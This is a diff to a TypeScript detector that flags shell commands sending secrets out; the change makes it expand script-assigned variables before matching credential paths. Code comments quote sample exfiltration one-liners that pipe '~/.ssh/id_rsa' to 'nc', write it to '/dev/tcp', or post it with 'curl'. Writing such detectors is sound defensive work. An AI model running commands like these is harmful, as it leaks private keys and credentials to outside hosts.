@@ -116,7 +116,7 @@ export function dumpsEnvironment(v: View): boolean {
 }
 
 /** What secret a command's output holds: a credential store it reads, or the environment; null when none. */
-export function printedSecret(v: View, withTokens = true): string | null {
+export function printedSecret(v: View, withTokens = true, vars: ReadonlyMap<string, string> = NO_VARS): string | null {
   if (dumpsEnvironment(v)) return "the environment";
   if (/^(echo|write-output|write-host|printf)$/.test(v.name)) {
     const variable = v.a.map((x) => SECRET_VARIABLE_ECHOED.exec(x)).find((m) => m !== null);
@@ -130,7 +130,8 @@ export function printedSecret(v: View, withTokens = true): string | null {
   if (code !== null && (CODE_READS_SECRETS.test(code) || /^\s*process\.env\s*$/.test(code))) return "local secrets read by inline code";
   if (!READERS.has(v.name)) return null;
   for (const x of v.a) {
-    const found = namedCredential(x);
+    // `k=~/.ssh/id_rsa; cat $k | nc h p`: the path a variable the script set holds
+    const found = namedCredential(expand(x, vars));
     if (found) return `${found.what} (${found.path})`;
   }
   return null;
@@ -187,6 +188,8 @@ function substitutedSecret(w: Word): string | null {
     }
   return null;
 }
+
+const NO_VARS: ReadonlyMap<string, string> = new Map();
 
 /** The text with each `$NAME` / `${NAME}` assigned earlier in the script replaced by its value (one level: `F=~/.ssh/id_rsa; curl -d @$F …`). */
 function expand(text: string, vars: ReadonlyMap<string, string>): string {
@@ -641,7 +644,7 @@ export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<strin
     }
   }
   // 5. printed onto a network socket (`cat ~/.ssh/id_rsa > /dev/tcp/host/port`)
-  const printed = printedSecret(v);
+  const printed = printedSecret(v, true, vars);
   if (printed && v.cmd.redirects.some((r) => />/.test(r.op) && /^\/dev\/(tcp|udp)\//.test(r.target)))
     high(`writes ${printed} to a network socket (/dev/tcp)`);
   // 6. printed into a pipeline that ends in a network client (`… | base64 | curl -d @- …`); a path
